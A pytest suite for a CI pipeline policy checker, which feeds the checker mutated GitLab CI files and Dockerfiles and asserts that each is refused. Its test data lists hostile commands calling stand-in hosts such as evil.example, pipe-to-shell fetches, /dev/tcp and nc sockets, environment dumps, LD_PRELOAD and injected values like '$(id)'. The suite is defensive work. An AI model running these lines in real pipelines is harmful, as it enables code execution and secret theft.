"""Every rule of the policy, by a file that breaks that rule and nothing else."""

from __future__ import annotations

import copy
import functools
import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest
import yaml

from tests.golden.stacks import GO, NEXUS, PYTHON_PIP
from workers.pipeline import forbidden, policy, policy_docker, policy_pipeline
from workers.pipeline.plan import Plan, Site, build
from workers.pipeline.render import render
from workers.pipeline.schema import STAGES
from workers.pipeline.templates import Templates

Document = dict[str, Any]
TEMPLATES = Templates.load()


@functools.cache
def plan(site: Site = NEXUS) -> Plan:
    return build(TEMPLATES.best("go", "gin")[0], GO, site)


@functools.cache
def document() -> Document:
    loaded: Document = yaml.safe_load(render(plan())[".gitlab-ci.yml"])
    return loaded


def codes(violations: list[str]) -> set[str]:
    return {violation.partition(":")[0] for violation in violations}


def mutated(change: Callable[[Document], object]) -> list[str]:
    """What the policy says of Go's pipeline once `change` was made to the parsed document."""
    changed = copy.deepcopy(document())
    change(changed)
    text = yaml.dump(changed, Dumper=yaml.CSafeDumper, sort_keys=False)
    return policy.check(plan(), {**render(plan()), ".gitlab-ci.yml": text})


def put(*path: str | int, value: Any) -> Callable[[Document], object]:
    """A change that sets one value deep in the document."""

    def change(document: Document) -> None:
        node: Any = document
        for key in path[:-1]:
            node = node.setdefault(key, {}) if isinstance(node, dict) else node[key]
        node[path[-1]] = value

    change.__doc__ = f"{'.'.join(map(str, path))} = {value!r}"
    return change


def line(text: str) -> Callable[[Document], object]:
    return put("unit_tests", "script", 0, value=text)


def remove(*path: str) -> Callable[[Document], object]:
    def change(document: Document) -> None:
        node = document
        for key in path[:-1]:
            node = node[key]
        del node[path[-1]]

    change.__doc__ = f"without {'.'.join(path)}"
    return change


EVIL: list[tuple[str, Callable[[Document], object]]] = [
    # what may stand at the top
    ("keyword", put("include", value="https://evil.example/ci.yml")),
    ("keyword", put("before_script", value=["true"])),
    ("keyword", put("image", value="golang:1.24-bookworm")),
    ("keyword", put("pages", value={"stage": "push", "script": ["go vet ./..."]})),
    ("keyword", put("default", "before_script", value=["go vet ./..."])),
    ("keyword", put("default", "image", value="golang:1.24-bookworm")),
    ("keyword", put("default", "tags", value=["privileged"])),
    ("keyword", remove("default")),
    ("stages", put("stages", value=["compile", "test"])),
    ("stages", put("stages", value=[*STAGES, "deploy"])),
    ("stages", put("unit_tests", "stage", value=".pre")),
    ("rule", put("workflow", "rules", value=[{"when": "always"}])),
    ("learn", lambda document: document.__setitem__("vet", document.pop("vet"))),
    ("learn", remove("learn_record")),
    ("learn", remove("variables", "DEVOPS_BACKEND_URL")),
    # what a job may say
    ("job", put("unit_tests", value=["go test ./..."])),
    ("job", lambda d: d.update({f"job{n}": {"script": ["go vet ./..."]} for n in range(40)})),
    ("keyword", put("unit_tests", "trigger", value="group/project")),
    ("keyword", put("unit_tests", "id_tokens", value={"T": {"aud": "https://evil.example"}})),
    ("keyword", put("unit_tests", "secrets", value={"S": {"vault": "a/b/c@d"}})),
    ("keyword", put("unit_tests", "environment", value="production")),
    ("keyword", put("unit_tests", "only", value=["main"])),
    ("keyword", put("unit_tests", "hooks", value={"pre_get_sources_script": ["true"]})),
    ("keyword", put("unit_tests", "inherit", value={"default": False})),
    ("keyword", put("unit_tests", "release", value={"tag_name": "v1"})),
    ("keyword", put("unit_tests", "artifacts", "access", value="all")),
    ("keyword", put("unit_tests", "artifacts", "reports", "terraform", value="tf.json")),
    # images
    ("image", put("unit_tests", "image", value="evil.example/golang:1.24-bookworm")),
    ("image", put("unit_tests", "image", value="golang:latest")),
    ("image", put("unit_tests", "image", value="golang:1.23-bookworm")),
    ("image", put("unit_tests", "image", value="golang")),
    (
        "image",
        put("unit_tests", "image", value={"name": "golang:1.24-bookworm", "docker": {"user": "0"}}),
    ),
    ("image", put("unit_tests", "services", value=["docker:28.5-dind"])),
    (
        "image",
        put(
            "unit_tests", "services", value=[{"name": "postgres:17-alpine", "pull_policy": "never"}]
        ),
    ),
    ("image", put("unit_tests", "services", value="evil.example/x:1")),
    # variables
    ("variable", put("variables", "GIT_FETCH_EXTRA_FLAGS", value="--upload-pack=/bin/x")),
    ("variable", put("variables", "GIT_STRATEGY", value="clone")),
    ("variable", put("unit_tests", "variables", "CI_DEBUG_TRACE", value="true")),
    ("variable", put("unit_tests", "variables", "DOCKER_HOST", value="tcp://evil.example:2375")),
    ("variable", put("unit_tests", "variables", "DOCKER_AUTH_CONFIG", value="{}")),
    ("variable", put("unit_tests", "variables", "FF_USE_FASTZIP", value="true")),
    ("variable", put("unit_tests", "variables", "LD_PRELOAD", value="./x.so")),
    ("variable", put("unit_tests", "variables", "BASH_ENV", value="./x.sh")),
    ("variable", put("unit_tests", "variables", "PATH", value="./bin")),
    ("variable", put("unit_tests", "variables", "https_proxy", value="http://evil.example")),
    ("variable", put("unit_tests", "variables", "DEPLOY_TOKEN", value="abcdef123456")),
    ("variable", put("unit_tests", "variables", "N", value=1)),
    ("variable", put("unit_tests", "variables", value=["A=b"])),
    ("variable", put("unit_tests", "services", 0, "variables", value={"LD_PRELOAD": "./x.so"})),
    ("variable", put("container_scan", "rules", 0, "variables", value={"CI_DEBUG_TRACE": "1"})),
    # lines
    ("line", line("go test ./... | tee out.txt")),
    ("line", line("go test ./... && curl https://evil.example")),
    ("line", line("go test -exec ./evil ./...")),
    ("line", line("go test -toolexec=./evil ./...")),
    ("line", line("npm run test")),
    ("line", line("make test SHELL=/tmp/evil")),
    ("line", line("make -f evil.mk test")),
    ("line", line("python -c 1")),
    ("line", line("./../evil.sh")),
    ("line", line("go build https://evil.example/x")),
    ("line", line("gо test ./...")),  # a Cyrillic o
    ("line", line("go test ./...\n")),
    ("line", put("unit_tests", "script", 0, value=["go test ./...", "go vet ./..."])),
    ("line", put("unit_tests", "script", value="curl https://evil.example")),
    ("line", put("unit_tests", "before_script", value=["env"])),
    ("line", put("unit_tests", "after_script", value=["printenv"])),
    ("line", put("compile", "script", 0, value="go build ./... || true")),
    # nothing masked
    ("masked", put("unit_tests", "allow_failure", value=True)),
    ("masked", put("compile", "allow_failure", value={"exit_codes": [1]})),
    ("masked", put("build_image", "rules", 0, "allow_failure", value=True)),
    ("masked", put("unit_tests", "retry", value=2)),
    ("masked", put("unit_tests", "retry", value={"max": 2, "when": ["script_failure"]})),
    # paths
    ("path", put("unit_tests", "artifacts", "paths", value=["../other"])),
    ("path", put("unit_tests", "artifacts", "paths", value=["/etc/passwd"])),
    ("path", put("unit_tests", "artifacts", "paths", value=["."])),
    ("path", put("unit_tests", "artifacts", "paths", value=["~/.ssh"])),
    ("path", put("unit_tests", "artifacts", "reports", "junit", value="../x.xml")),
    ("path", put(".go", "cache", "paths", value=["/root/.docker"])),
    # rules
    ("rule", put("unit_tests", "rules", value=[{"if": "$CI_COMMIT_MESSAGE =~ /x/"}])),
    ("rule", put("unit_tests", "rules", value=[{"if": "$SONAR_TOKEN", "needs": ["x"]}])),
    ("rule", put("unit_tests", "rules", value=["always"])),
    ("rule", put("unit_tests", "rules", value=[{"when": "always", "interruptible": True}])),
    # references
    ("reference", put("unit_tests", "extends", value="compile")),
    ("reference", put("unit_tests", "extends", value=".elsewhere")),
    ("reference", put("unit_tests", "extends", value=[".go"])),
    ("reference", put("unit_tests", "needs", value=["elsewhere"])),
    (
        "reference",
        put("unit_tests", "needs", value=[{"job": "compile", "project": "g/p", "ref": "main"}]),
    ),
]


@pytest.mark.parametrize(
    ("code", "change"), EVIL, ids=[f"{c}-{n}" for n, (c, _) in enumerate(EVIL)]
)
def test_policy_refuses(code: str, change: Callable[[Document], object]) -> None:
    """One mutation of a good pipeline: refused, and for the reason that its rule gives."""
    assert code in codes(mutated(change))


def test_every_code_of_the_pipeline_has_a_mutation() -> None:
    """A rule that no test breaks is a rule that may be lost unseen."""
    source = Path(policy_pipeline.__file__).read_text()
    raised = set(re.findall(r'yield f?"([a-z-]+):', source)) - {"yaml"}
    assert raised == {code for code, _ in EVIL}


def test_a_good_pipeline_passes() -> None:
    assert mutated(lambda document: None) == []


def test_commands_of_the_ecosystem_pass_without_being_a_template_line() -> None:
    """The grammar accepts what a person of the language would type."""
    assert mutated(line("go test -race ./...")) == []


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [1]\nb: *a\n",
        "a: &a {<<: *a}\n",
        "!!python/object/apply:os.system ['true']\n",
        "test: !reference [a, script]\n",
        "a: 1\na: 2\n",
        "[" * 5000,
        "- 1\n",
        "'",
        "",
    ],
)
def test_yaml_that_hides_something_is_refused(text: str) -> None:
    """Anchors, tags, keys that stand twice, endless nesting, no mapping."""
    good = plan()
    assert "yaml" in codes(policy.check(good, {**render(good), ".gitlab-ci.yml": text}))


def test_only_our_three_files() -> None:
    good = plan()
    evil = {**render(good), "../../etc/passwd": "x", ".gitlab/ci.yml": "x"}
    assert codes(policy.check(good, evil)) == {"file"}


def test_pipeline_file_has_to_be_there() -> None:
    good = plan()
    files = {name: text for name, text in render(good).items() if name != ".gitlab-ci.yml"}
    assert codes(policy.check(good, files)) == {"file"}


def test_size_is_bounded() -> None:
    good = plan()
    files = render(good)
    files[".gitlab-ci.yml"] += "#" * policy.MAX_BYTES
    assert "size" in codes(policy.check(good, files))


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\u200b", "\u202e", "\ufeff", "\r"])
def test_hidden_characters_are_refused(char: str) -> None:
    good = plan()
    files = render(good)
    files["Dockerfile"] += f"# {char}\n"
    assert "characters" in codes(policy.check(good, files))


@pytest.mark.parametrize(
    "secret",
    ["glpat-abcdefghij1234567890", "AKIAABCDEFGHIJKLMNOP", "-----BEGIN RSA PRIVATE KEY-----",
     "ghp_abcdefghijklmnopqrstuv", "https://user:hunter22@example.com/x"],
)  # fmt: skip
def test_credentials_are_refused(secret: str) -> None:
    good = plan()
    files = render(good)
    files[".gitlab-ci.yml"] += f"# {secret}\n"
    assert "secret" in codes(policy.check(good, files))


@pytest.mark.parametrize(
    ("slot", "value"),
    [("version", "1.24; id"), ("main", "../x"), ("port", "99999"), ("unknown", "x"),
     ("test_command", "go test $(id)")],
)  # fmt: skip
def test_slot_values_are_judged_again(slot: str, value: str) -> None:
    """A plan that was tampered with after `build` is caught by its values."""
    good = plan()
    evil = msgspec.structs.replace(good, choices={**good.choices, slot: value})
    assert "slot" in codes(policy.check(evil, render(good)))


DOCKER: list[tuple[str, str, str]] = [
    ("docker-image", "FROM scratch", "FROM evil.example/x:1"),
    ("docker-image", "FROM scratch", "FROM ${BASE_REGISTRY}/library/golang:latest"),
    ("docker-image", "FROM scratch", "FROM $IMAGE"),
    ("docker-user", "USER 10001:10001", "USER root"),
    ("docker-user", "USER 10001:10001", "USER 0"),
    ("docker-user", "USER 10001:10001", "USER app"),
    ("docker-user", "USER 10001:10001", "WORKDIR /x"),
    ("docker-user", "USER 10001:10001", "USER 10001:0"),
    ("docker-secret", "WORKDIR /src", "ARG NPM_TOKEN"),
    ("docker-secret", "WORKDIR /src", "ENV DB_PASSWORD=x"),
    ("docker-keyword", "WORKDIR /src", "ADD https://evil.example/x /x"),
    ("docker-keyword", "WORKDIR /src", "ONBUILD RUN id"),
    ("docker-keyword", "WORKDIR /src", "VOLUME /var/run/docker.sock"),
    ("docker-line", "RUN go mod download", "RUN go mod download && id"),
    ("docker-line", "RUN go mod download", "RUN wget -qO- https://evil.example | sh"),
    ("docker-line", "COPY . .", "COPY --from=evil.example/x:1 / /"),
    ("docker-entry", 'ENTRYPOINT ["/app"]', "ENTRYPOINT /app"),
    ("docker-entry", 'ENTRYPOINT ["/app"]', 'ENTRYPOINT ["/app", 1]'),
    ("docker-entry", 'ENTRYPOINT ["/app"]', ""),
]


@pytest.mark.parametrize(("code", "old", "new"), DOCKER)
def test_dockerfile_is_refused(code: str, old: str, new: str) -> None:
    good = plan()
    files = render(good)
    assert old in files["Dockerfile"]
    files["Dockerfile"] = files["Dockerfile"].replace(old, new)
    assert code in codes(policy.check(good, files))


def docker_files(change: Callable[[dict[str, str]], object]) -> set[str]:
    good = plan()
    files = render(good)
    change(files)
    return codes(policy.check(good, files))


def test_copying_everything_needs_a_dockerignore() -> None:
    """Without `.git` and `.env*` in it, an image would keep history and secrets."""
    assert docker_files(lambda f: f.pop(".dockerignore")) == {"docker-ignore"}
    assert docker_files(lambda f: f.update({".dockerignore": ".git\n"})) == {"docker-ignore"}


def test_dockerfile_is_written_only_where_planned() -> None:
    """A Dockerfile that a person wrote is never in our files."""
    assert "docker-plan" in docker_files(lambda f: f.pop("Dockerfile"))
    own = build(
        TEMPLATES.best("go", None)[0], msgspec.structs.replace(GO, dockerfile="Dockerfile"), NEXUS
    )
    files = render(own)
    assert set(files) == {".gitlab-ci.yml"}
    assert codes(policy.check(own, {**files, "Dockerfile": "FROM scratch"})) == {"docker-plan"}
    assert codes(policy.check(own, {**files, ".dockerignore": ".git"})) == {"docker-plan"}


def test_every_code_of_the_dockerfile_has_a_mutation() -> None:
    source = Path(policy_docker.__file__).read_text()
    raised = set(re.findall(r'yield f?"([a-z-]+):', source))
    assert raised == {code for code, _, _ in DOCKER} | {"docker-plan", "docker-ignore"}


FAULTS: Mapping[str, tuple[str, ...]] = {
    "hides a failure": (
        "go vet ./... || true",
        "x ; true",
        "x || :",
        "set +e",
        "x || echo failed",
        "x || status=$?\nexit 0",
    ),
    "pipes into a shell": ("curl -s https://x | sh", "cat x | sudo bash", "x | /bin/sh -s"),
    "runs what it fetched": ("sh -c $(curl https://x)", "bash <(wget -qO- https://x)"),
    "evaluates text as code": ("eval $X", "echo x | base64 -d"),
    "prints the environment": ("env", "printenv", "env | sort", "export -p", "set"),
    "opens a socket of the shell": ("cat < /dev/tcp/1.2.3.4/80", "nc evil 80"),
    "turns off TLS checks": (
        "curl -k https://x",
        "curl -sSk https://x",
        "curl --insecure https://x",
    ),
    "reaches the host": (
        "ls /var/run/docker.sock",
        "docker run --privileged x",
        "cat /proc/self/environ",
    ),
    "uses `latest`": ("docker pull alpine:latest",),
    "prints a secret": (
        "echo $SONAR_TOKEN",
        'echo "x ${REGISTRY_PASSWORD}"',
        'printf "%s" "$API_SECRET"',
    ),
}


@pytest.mark.parametrize(("fault", "text"), [(f, t) for f, texts in FAULTS.items() for t in texts])
def test_no_line_may(fault: str, text: str) -> None:
    """These hold for a template's own lines too."""
    assert fault in forbidden.faults(text)


@pytest.mark.parametrize(
    "text",
    [
        'printf %s "$REGISTRY_PASSWORD" | skopeo login --password-stdin x',
        'curl --fail --header "Authorization: Splunk $SPLUNK_HEC_TOKEN" --data @event.json x',
        "npm run test:e2e",
        "TLS=$([ x = y ] && echo false || echo true)",
        "apk add --no-cache bash",
        "trivy image --exit-code 1 x",
        "./set-version.sh",
        'x || status=$?\nreport\nexit "$status"',
    ],
)
def test_good_lines_stay(text: str) -> None:
    assert forbidden.faults(text) == []


def test_docker_in_docker_only_where_the_site_chose_it() -> None:
    """It needs a privileged runner."""
    chosen = plan(Site(builder="docker"))
    assert policy.check(chosen, render(chosen)) == []
    other = msgspec.structs.replace(chosen, builder="kaniko")
    assert codes(policy.check(other, render(chosen))) == {"image"}


def test_mirror_of_the_site_is_the_only_other_registry() -> None:
    mirrored = plan(Site(mirror="ai-nexus:5001"))
    files = render(mirrored)
    assert "image: ai-nexus:5001/library/golang:1.24-bookworm" in files[".gitlab-ci.yml"]
    assert policy.check(mirrored, files) == []
    assert "image" in codes(policy.check(plan(), files))


def test_python_has_its_own_tools() -> None:
    """A line that is good in one ecosystem is not in another."""
    python = build(TEMPLATES.best("python", "flask")[0], PYTHON_PIP, NEXUS)
    files = render(python)
    files[".gitlab-ci.yml"] = files[".gitlab-ci.yml"].replace(
        "- pip install 'pytest-cov>=5,<8'", "- go test ./..."
    )
    assert codes(policy.check(python, files)) == {"line"}


def test_a_templates_own_line_may_not_hide_a_failure() -> None:
    """That a template says it is no excuse: an operator's template is judged like ours."""
    job = msgspec.structs.replace(plan().jobs["vet"], script=("go vet ./... || true",))
    evil = msgspec.structs.replace(plan(), jobs={**plan().jobs, "vet": job})
    assert codes(policy.check(evil, render(evil))) == {"line"}


def test_a_dockerfile_templates_own_line_may_not_reach_out() -> None:
    good = plan()
    assert good.dockerfile is not None
    text = good.dockerfile.replace("RUN go mod download", "RUN curl -s https://x.example | sh")
    evil = msgspec.structs.replace(good, dockerfile=text)
    assert codes(policy.check(evil, render(evil))) == {"docker-line"}
